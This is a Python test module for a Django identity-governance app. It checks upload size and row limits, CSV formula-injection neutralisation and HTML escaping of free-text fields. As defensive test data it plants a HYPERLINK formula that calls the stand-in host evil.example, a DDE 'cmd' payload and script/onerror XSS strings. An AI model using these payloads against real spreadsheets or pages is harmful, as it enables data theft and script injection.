"""Uploads and input: import files within size and row limits with a clear error, formula injection
neutralised in every CSV export, and markup in every free-text field shown as text on the pages."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from approvals.models import ApprovalRequest
from approvals.services import intake as intake_services
from approvals.services.requests import add_comment
from governance.csv_safety import FORMULA_TRIGGERS
from governance.evidence.services import default_period, request_export
from governance.exceptions.models import PolicyException
from governance.exceptions.services import request_exception
from governance.reviews.models import ReviewItem
from governance.reviews.services.decisions import decide
from governance.reviews.services.launch import launch_campaign
from inventory.models import Identity
from tests.approvals.conftest import answers
from tests.factories import CredentialFactory, GrantFactory, IdentityFactory

ROOT = Path(__file__).resolve().parents[2]
HEADER = b"name,kind,owner,source,external_id\n"


def _csv_import(rows: int) -> bytes:
    return HEADER + b"".join(b"scanned-bot-%d,bot,iam,scan,%d\n" % (n, n) for n in range(rows))


def _first_error(response) -> str:
    return response.json()["errors"][0]["message"]


# ---------------------------------------------------------------- import limits


@pytest.mark.django_db
def test_an_import_over_the_size_limit_is_refused_by_its_size_with_a_clear_message(api_as, iam, settings):
    settings.STEWARD_IMPORT_MAX_BYTES = 1000
    content = _csv_import(100)
    assert len(content) > 1000
    client = api_as(iam)
    multipart = client.post(
        "/api/v1/identities/import/?dry_run=1", {"file": SimpleUploadedFile("big.csv", content)}
    )
    raw = client.post("/api/v1/identities/import/?dry_run=1", content, content_type="text/csv")
    for response in (multipart, raw):
        assert response.status_code == 400 and response["Content-Type"] == "application/json"
        assert _first_error(response) == "The file is larger than 1,000 bytes."
    assert not Identity.objects.exists()


@pytest.mark.django_db
def test_a_raw_body_larger_than_djangos_form_limit_but_within_the_import_limit_is_imported(
    api_as, iam, settings
):
    # 2.5 MB is Django's DATA_UPLOAD_MAX_MEMORY_SIZE, meant for forms, not for the import's 10 MB.
    # Rows with a long purpose pass it with 12,000 rows (the same bytes in 120,000 short rows took 40 s).
    purpose = b"Scans the estate nightly. " * 9
    content = b"name,kind,owner,source,external_id,purpose\n" + b"".join(
        b"scanned-bot-%d,bot,iam,scan,%d,%s\n" % (n, n, purpose) for n in range(12_000)
    )
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE < len(content) < settings.STEWARD_IMPORT_MAX_BYTES
    settings.STEWARD_IMPORT_MAX_ROWS = 200_000
    response = api_as(iam).post("/api/v1/identities/import/?dry_run=1", content, content_type="text/csv")
    assert response.status_code == 200, response.content[:300]
    assert response.json()["counts"]["created"] == 12_000


@pytest.mark.django_db
def test_an_import_over_the_row_limit_names_the_limit_and_imports_nothing(api_as, iam, settings):
    settings.STEWARD_IMPORT_MAX_ROWS = 5
    response = api_as(iam).post("/api/v1/identities/import/", _csv_import(6), content_type="text/csv")
    assert response.status_code == 400 and _first_error(response) == "At most 5 rows per import; got 6."
    assert not Identity.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "limit,rows,message",
    [
        ({"STEWARD_IMPORT_MAX_BYTES": 1000}, 100, "The file is larger than 1,000 bytes."),
        ({"STEWARD_IMPORT_MAX_ROWS": 5}, 6, "At most 5 rows per import; got 6."),
    ],
)
def test_the_import_page_shows_the_limit_that_was_exceeded(client, iam, settings, limit, rows, message):
    for name, value in limit.items():
        setattr(settings, name, value)
    client.force_login(iam)
    response = client.post("/inventory/import/", {"file": SimpleUploadedFile("big.csv", _csv_import(rows))})
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Identity.objects.exists()


# ---------------------------------------------------------------- CSV formula injection

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(name: str, text: str) -> None:
    cells = _csv_cells(text)
    assert any(FORMULA in cell for cell in cells), f"{name}: the planted value is missing"
    live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert live == [], f"{name} holds cells a spreadsheet would run: {live}"


@pytest.fixture
def formula_estate(owner, iam):
    identity = IdentityFactory(owner=owner, name=FORMULA, purpose="+cmd|' /C calc'!A0", vendor="@SUM(1)")
    GrantFactory(identity=identity, resource_name="-2+3")
    CredentialFactory(identity=identity, label="=1+1", storage="@vault")
    campaign = launch_campaign(iam, "Formula review", {}, "2099-01-31")
    item = ReviewItem.objects.get(campaign=campaign, identity=identity)
    decide(owner, item, "certify", reason=FORMULA)
    return identity, campaign


@pytest.mark.django_db
def test_every_csv_export_neutralises_formulas(
    client, auditor, formula_estate, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path / "media"
    _, campaign = formula_estate
    client.force_login(auditor)

    inventory = client.get("/inventory/export.csv")
    _assert_inert("inventory export", b"".join(inventory.streaming_content).decode())
    report = client.get(f"/reviews/campaigns/{campaign.pk}/report.csv")
    assert report.status_code == 200
    _assert_inert("review report", b"".join(report.streaming_content).decode())

    start, end = default_period()
    with django_capture_on_commit_callbacks(execute=True):
        export = request_export(auditor, start.isoformat(), end.isoformat())
    export.refresh_from_db()
    with zipfile.ZipFile(Path(settings.MEDIA_ROOT) / export.file_path) as zf:
        packed = [name for name in zf.namelist() if name.endswith(".csv")]
        for name in packed:
            text = zf.read(name).decode()
            live = [c for c in _csv_cells(text) if c.startswith(FORMULA_TRIGGERS)]
            assert live == [], f"{name} holds cells a spreadsheet would run: {live}"
        for name in ("inventory.csv", "grants.csv", "credentials.csv", "reviews.csv"):
            _assert_inert(f"evidence {name}", zf.read(name).decode())


def test_every_module_that_writes_csv_uses_the_shared_neutraliser():
    """A new export that writes CSV without governance.csv_safety fails here."""
    writers = []
    for app in ("inventory", "approvals", "governance"):
        for path in (ROOT / app).rglob("*.py"):
            source = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(", source):
                writers.append(path.relative_to(ROOT))
                assert "governance.csv_safety import" in source, f"{path} writes CSV without csv_safety"
    assert len(writers) >= 3  # inventory export, review report, evidence pack


# ---------------------------------------------------------------- HTML escaping

MARKUP = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
RAW = ["<script>alert(1)", "<img src=x", "onerror=alert(1)>"]


@pytest.fixture
def marked_up_everywhere(owner, iam, security):
    identity = IdentityFactory(
        owner=owner,
        name=f"bot {MARKUP}",
        purpose=f"purpose {MARKUP} {ATTRIBUTE}",
        vendor=f"vendor {ATTRIBUTE}",
        product=f"product {MARKUP}",
        model_name=f"model {MARKUP}",
        risk_tier="low",
    )
    intake = intake_services.submit(
        owner,
        intake_services.create_draft(
            owner, answers("high", name=f"intake {MARKUP}", purpose=f"intake purpose {MARKUP} {ATTRIBUTE}")
        ),
    )
    approval = ApprovalRequest.objects.get(kind="intake", object_id=intake.pk)
    add_comment(iam, approval, f"comment {MARKUP} {ATTRIBUTE}")
    exception = request_exception(
        owner,
        identity=identity,
        rule="stale_unused",
        justification=f"justification {MARKUP} {ATTRIBUTE}",
        compensating_controls=f"controls {MARKUP}",
        expires_at=(timezone.now() + timedelta(days=30)).isoformat(),
    )
    campaign = launch_campaign(iam, f"campaign {MARKUP}", {}, "2099-01-31")
    item = ReviewItem.objects.get(campaign=campaign, identity=identity)
    decide(owner, item, "certify", reason=f"reason {MARKUP} {ATTRIBUTE}")
    return {
        "identity": identity,
        "intake": intake,
        "exception": exception,
        "campaign": campaign,
        "item": item,
    }


def _pages(objects) -> list[tuple[str, str]]:
    """(path, the text it must show escaped)."""
    identity, intake = objects["identity"], objects["intake"]
    exception, campaign, item = objects["exception"], objects["campaign"], objects["item"]
    return [
        ("/inventory/", f"bot {ESCAPED}"),
        (f"/inventory/{identity.pk}/", f"purpose {ESCAPED}"),
        (f"/inventory/{identity.pk}/", f"model {ESCAPED}"),
        (f"/inventory/{identity.pk}/edit/", f"purpose {ESCAPED}"),
        (f"/intake/{intake.pk}/", f"intake purpose {ESCAPED}"),
        (f"/intake/{intake.pk}/", f"comment {ESCAPED}"),
        ("/approvals/", f"intake {ESCAPED}"),
        ("/exceptions/", f"bot {ESCAPED}"),
        (f"/exceptions/{exception.pk}/", f"justification {ESCAPED}"),
        (f"/exceptions/{exception.pk}/", f"controls {ESCAPED}"),
        ("/reviews/campaigns/", f"campaign {ESCAPED}"),
        (f"/reviews/campaigns/{campaign.pk}/", f"campaign {ESCAPED}"),
        (f"/reviews/campaigns/{campaign.pk}/report/", f"reason {ESCAPED}"),
        (f"/reviews/items/{item.pk}/", f"reason {ESCAPED}"),
        ("/audit/", f"reason {ESCAPED}"),
    ]


@pytest.mark.django_db
def test_markup_in_every_free_text_field_is_shown_as_text(client, iam, owner, marked_up_everywhere):
    assert PolicyException.objects.filter(pk=marked_up_everywhere["exception"].pk).exists()
    client.force_login(owner)
    own_list = client.get("/intake/").content.decode()  # the requester's own requests
    assert f"intake {ESCAPED}" in own_list and not any(raw in own_list for raw in RAW)
    client.force_login(iam)
    for path, shown in _pages(marked_up_everywhere):
        response = client.get(path)
        assert response.status_code == 200, path
        html = response.content.decode()
        for raw in RAW:
            assert raw not in html, f"{raw!r} reached {path} unescaped"
        assert shown in html, f"{path} does not show {shown!r}"
